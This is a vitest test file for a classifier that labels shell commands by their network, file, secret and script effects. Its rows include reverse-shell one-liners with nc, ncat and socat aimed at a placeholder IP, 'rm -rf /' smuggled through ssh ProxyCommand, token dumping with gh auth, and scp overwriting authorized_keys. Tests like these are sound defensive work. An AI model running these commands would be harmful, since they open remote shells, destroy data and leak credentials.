import { expect, it } from 'vitest';
import { checkRows, sceneWith } from './program-rows.js';

it('reaches other machines', () => {
  const { given, wanted } = checkRows(
    `
    ssh host.example.test => net host.example.test; unknown
    ssh build@host.example.test uptime => net build@host.example.test; unknown
    ssh -V =>
    ssh -Q cipher =>
    ssh -i key -p 22 me@host.example.test ls => net me@host.example.test; unknown
    ssh -o ProxyCommand='rm -rf /' host.example.test => net host.example.test; unknown; script rm -rf /
    ssh -oProxyCommand=./x host.example.test => net host.example.test; unknown; script ./x
    ssh -o 'ProxyCommand ./x' host.example.test => net host.example.test; unknown; script ./x
    ssh host.example.test -o LocalCommand=./x => net host.example.test; unknown; script ./x
    ssh -o StrictHostKeyChecking=no host.example.test => net host.example.test; unknown
    ssh -F cfg host.example.test => net host.example.test; read cfg; unknown
    ssh -J a.example,b.example host.example.test => net host.example.test; net a.example; net b.example; unknown
    ssh -R 80:localhost:80 host.example.test => net host.example.test; unknown
    ssh localhost 'rm -rf /' => net localhost; unknown; script rm -rf /
    ssh me@127.0.0.1 rm -rf / => net me@127.0.0.1; unknown; script rm -rf /
    ssh -E log host.example.test => net host.example.test; write log; unknown
    scp a host.example.test:b => read a; net host.example.test
    scp -r host.example.test:d out => net host.example.test; write out deep
    scp -S ./x a host.example.test:b => unknown; run ./x; read a; net host.example.test
    scp -o ProxyCommand=./x a host.example.test:b => unknown; script ./x; read a; net host.example.test
    scp me@host.example.test:a . => net me@host.example.test; write ./a
    scp scp://host.example.test/a b => net scp://host.example.test/a; write b
    sftp host.example.test => net host.example.test; unknown
    sftp -b list host.example.test => read list; net host.example.test; unknown
    mosh host.example.test => unknown; net host.example.test
    telnet host.example.test 23 => net host.example.test:23
    `,
  );
  expect(given).toBe(wanted);
});

it('joins streams', () => {
  const { given, wanted } = checkRows(
    `
    nc host.example.test 80 => net host.example.test:80
    nc -z -v host.example.test 80 => net host.example.test:80
    nc -e /bin/sh 203.0.113.7 4444 => script /bin/sh; forbid; net 203.0.113.7:4444
    nc 203.0.113.7 4444 -e /bin/sh => script /bin/sh; forbid; net 203.0.113.7:4444
    nc -c sh 203.0.113.7 4444 => script sh; forbid; net 203.0.113.7:4444
    ncat --exec /bin/bash 203.0.113.7 4444 => script /bin/bash; forbid; net 203.0.113.7:4444
    ncat --sh-exec 'sh -i' 203.0.113.7 4444 => script sh -i; forbid; net 203.0.113.7:4444
    nc -l 4444 => unknown
    nc -lvnp 4444 => unknown
    nc -U /run/x.sock => write /run/x.sock; unknown
    nc -x proxy.example.test:80 host.example.test 80 => net proxy.example.test:80; net host.example.test:80
    socat TCP:203.0.113.7:4444 EXEC:/bin/sh => forbid; net 203.0.113.7:4444; script /bin/sh; unknown
    socat exec:'sh -i',pty tcp4:203.0.113.7:4444 => forbid; script sh -i; net 203.0.113.7:4444; unknown
    socat OPENSSL:203.0.113.7:4444 SYSTEM:sh => forbid; net 203.0.113.7:4444; script sh; unknown
    socat TCP-LISTEN:4444 EXEC:sh => forbid; unknown; script sh
    socat - TCP:host.example.test:80 => net host.example.test:80; unknown
    socat - EXEC:ls => script ls; unknown
    socat -u OPEN:a TCP:host.example.test:80 => write a; net host.example.test:80; unknown
    socat $A $B => unread; unknown
    `,
  );
  expect(given).toBe(wanted);
});

it('runs openssl', () => {
  const { given, wanted } = checkRows(
    `
    openssl version =>
    openssl version -a =>
    openssl rand -hex 16 =>
    openssl rand -base64 32 -out k => write k
    openssl dgst -sha256 a.txt => read a.txt
    openssl sha256 a.txt => read a.txt
    openssl x509 -in c.pem -noout -text => read c.pem
    openssl enc -aes-256-cbc -in a -out b -pass file:p => read a; write b; read p
    openssl enc -d -aes-256-cbc -in a -pass env:TOKEN => read a; secret TOKEN
    openssl base64 -in a => read a
    openssl s_client -connect drop.example.test:443 => net drop.example.test:443
    openssl s_client -proxy p.example.test:80 -connect drop.example.test:443 -keylogfile k => net p.example.test:80; net drop.example.test:443; write k
    openssl req -new -x509 -nodes -keyout k -out c -subj /CN=x => write k; write c
    openssl req -config ./x.cnf -new => unknown
    openssl dgst -engine ./x.so a => unknown; read ./x.so; read a
    openssl genrsa -out k 2048 => write k
    openssl s_server -port 80 => unknown
    openssl engine -t ./x => unknown
    `,
  );
  expect(given).toBe(wanted);
});

it('looks up names and hosts', () => {
  const { given, wanted } = checkRows(
    `
    ping -c 1 example.org => net example.org
    ping6 example.org => net example.org
    dig example.org => net example.org
    dig +short TXT secret.example.org @203.0.113.9 => net secret.example.org; net 203.0.113.9
    dig -f names => read names; net <the names are written in names>; net <the name server>
    dig -x 203.0.113.9 => net 203.0.113.9; net <the name server>
    dig => net <the name server>
    host example.org => net example.org
    nslookup example.org => net example.org
    nslookup -type=TXT example.org => net example.org
    drill example.org => net example.org
    whois example.org => net example.org
    traceroute example.org => net example.org
    tracepath example.org => net example.org
    mtr --report example.org => net example.org
    nmap -sS 203.0.113.0/24 => unknown; net 203.0.113.0/24
    nmap -iL list -oN out => unknown; read list; write out
    nmap --version =>
    masscan 203.0.113.0/24 => unknown; net 203.0.113.0/24
    tcpdump -i any -w out => write out; unknown
    tcpdump -z ./x -r f => read f; run ./x; unknown
    `,
  );
  expect(given).toBe(wanted);
});

it('acts on services as the person', () => {
  const { given, wanted } = checkRows(
    `
    gh pr list => net <the host gh is signed in to>; unknown
    gh auth token => net <the host gh is signed in to>; secret the token the person is signed in with; unknown
    gh auth status --show-token => net <the host gh is signed in to>; secret the token the person is signed in with; unknown
    gh --version =>
    glab mr list => net <the host glab is signed in to>; unknown
    ngrok http 80 => net <the service it opens the way through>; unknown
    tailscale up => net <the other end>; unknown
    `,
  );
  expect(given).toBe(wanted);
});

it('copies into a folder under the name it had', () => {
  const { given, wanted } = checkRows(
    `
    scp host.example.test:keys/authorized_keys .ssh => net host.example.test; write .ssh/authorized_keys
    scp host.example.test:a new => net host.example.test; write new
    `,
    sceneWith('/ws/.ssh/'),
  );
  expect(given).toBe(wanted);
});

it('sends names to the server it is told', () => {
  const { given, wanted } = checkRows(
    `
    whois -h host.example.test secret => net host.example.test; net secret
    dig -q secret.example.org => net secret.example.org; net <the name server>
    `,
  );
  expect(given).toBe(wanted);
});
